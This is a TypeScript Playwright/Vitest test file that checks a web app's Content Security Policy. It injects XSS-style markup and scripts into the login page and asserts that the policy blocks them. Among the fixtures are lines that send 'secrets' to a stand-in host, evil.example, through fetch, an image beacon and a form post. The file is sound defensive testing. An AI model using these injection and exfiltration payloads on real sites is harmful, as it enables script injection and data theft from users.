import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { pagePaths } from '../../../api/pages/pages.ts'
import { person } from '../../support/server/client.ts'
import { setupToken } from '../../support/server/start-test-server.ts'
import { hasChromium } from '../support/chromium.ts'
import { openSite, type Site } from '../support/site.ts'

const administrator = { ...person, email: 'root@example.org' }

let site: Site
beforeAll(async () => {
  if (!hasChromium) return
  site = await openSite()
  await site.app.setUp(setupToken)
})
afterAll(async () => site?.stop())

/** Keeps what the policy refuses, from before the first script of the page. */
const observe = `
  globalThis.refused = []
  addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => refused.push(violatedDirective + ' ' + blockedURI))
`
/** Events of refusals come in a task of their own. */
const refusedOn = (page: Page): Promise<readonly string[]> =>
  page.evaluate('new Promise((resolve) => requestAnimationFrame(() => setTimeout(() => resolve(refused))))')

const observed = async () => {
  const page = await site.visitor()
  await page.addInitScript(observe)
  return page
}

/** Why each request to elsewhere failed. */
const observedWithFailures = async () => {
  const page = await observed()
  const failures: (string | undefined)[] = []
  page.on('requestfailed', (request) => request.url().includes('evil.example') && failures.push(request.failure()?.errorText))
  return { page, failures }
}

const logIn = async (page: Page, { email, password }: typeof person) => {
  await page.goto('/login')
  await page.getByLabel('Email address').fill(email)
  await page.getByLabel('Password', { exact: true }).fill(password)
  await page.keyboard.press('Enter')
  await page.waitForURL('**/account*')
}

/** Of the page, and of its address with one more part. */
const concrete = pagePaths.map((path) => path.replace('*', 'nowhere'))

/** The directive that refuses the script. It runs in a task of its own, where DevTools no longer lift the policy. */
const afterRefusal = (script: string) => `new Promise((resolve) => {
  addEventListener('securitypolicyviolation', ({ violatedDirective }) => resolve(violatedDirective), { once: true })
  setTimeout(() => { ${script} })
})`

/** The directive that refuses it, and a script. */
const injected = [
  ['require-trusted-types-for', "document.body.innerHTML = '<b>markup</b>'"],
  ['require-trusted-types-for', "document.createElement('script').text = 'hacked = 1'"],
  ['require-trusted-types-for', "document.createElement('script').src = '/assets/x.js'"],
  ['require-trusted-types-for', "document.body.setAttribute('onclick', 'hacked = 1')"],
  ['require-trusted-types-for', "eval('globalThis.hacked = 1')"],
  ['require-trusted-types-for', "new Function('globalThis.hacked = 1')()"],
  ['require-trusted-types-for', "setTimeout('globalThis.hacked = 1')"],
  ['require-trusted-types-for', "new Worker('/assets/x.js')"],
  ['trusted-types', "trustedTypes.createPolicy('mine', { createHTML: (text) => text })"],
  ['connect-src', "fetch('https://evil.example/', { method: 'POST', body: 'secrets' }).catch(() => {})"],
  ['img-src', "new Image().src = 'https://evil.example/?secrets'"],
  [
    'form-action',
    "const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' }); document.body.append(form); form.submit()",
  ],
] as const

describe.skipIf(!hasChromium)('the policy of the pages', () => {
  test('refuses nothing that a page does, for strangers and for an administrator', async () => {
    const stranger = await observed()
    for (const path of [...concrete, '/reset#a-token', '/email#a-token', '/invitation#a-token', '/register#a-token']) {
      await stranger.goto(path)
      await stranger.getByRole('heading', { level: 1 }).waitFor()
      expect([path, await refusedOn(stranger)]).toEqual([path, []])
    }

    const member = await observed()
    await logIn(member, administrator)
    const seen = new Set<string>()
    const rest = ['/account', '/admin', ...concrete]
    for (let path = rest.shift(); path !== undefined; path = rest.shift()) {
      if (seen.has(path)) continue
      seen.add(path)
      await member.goto(path)
      await member.getByRole('heading', { level: 1 }).waitFor()
      await member.waitForLoadState('networkidle')
      expect([path, await refusedOn(member)]).toEqual([path, []])
      const links = await member.locator('a[href^="/"]').evaluateAll((all) => all.map((link) => Reflect.get(link, 'pathname') as string))
      rest.push(...links.filter((link) => /^\/(account|admin)/.test(link)))
    }
    expect([...seen].filter((path) => path.startsWith('/admin/')).length).toBeGreaterThan(1)
    expect(site.faults).toEqual([])
  })

  test('refuses what was written into the document', async () => {
    const { page, failures } = await observedWithFailures()
    await page.route('**/login', async (route) => {
      const response = await route.fetch()
      const body = (await response.text()).replace(
        '<div id="app">',
        `<script>globalThis.hacked = 'script'</script>
         <img src="/missing.svg" onerror="globalThis.hacked = 'handler'">
         <img src="https://evil.example/image.png">
         <script src="https://evil.example/script.js"></script>
         <link rel="stylesheet" href="https://evil.example/style.css">
         <iframe src="https://evil.example/frame"></iframe>
         <base href="https://evil.example/">
         <p style="color: red" id="styled">styled</p>
         <div id="app">`,
      )
      await route.fulfill({ response, body })
    })
    await page.goto('/login')
    await page.getByLabel('Email address').waitFor()
    const refused = await refusedOn(page)
    for (const directive of ['script-src-elem', 'script-src-attr', 'img-src', 'style-src-elem', 'style-src-attr', 'frame-src', 'base-uri'])
      expect(refused.map((line) => line.split(' ')[0])).toContain(directive)
    expect(await page.evaluate('globalThis.hacked')).toBeUndefined()
    expect(new Set(failures)).toEqual(new Set(['csp']))
    site.faults.splice(0)
  })

  test('refuses what an injected script would do', async () => {
    const { page, failures } = await observedWithFailures()
    await page.goto('/login')
    await page.getByLabel('Email address').waitFor()
    for (const [directive, script] of injected) {
      const refused = await page.evaluate(afterRefusal(script))
      expect([script, refused]).toEqual([script, directive])
    }
    expect(await page.evaluate('globalThis.hacked')).toBeUndefined()
    expect(new Set(failures)).toEqual(new Set(['csp']))
    site.faults.splice(0)
  })
})
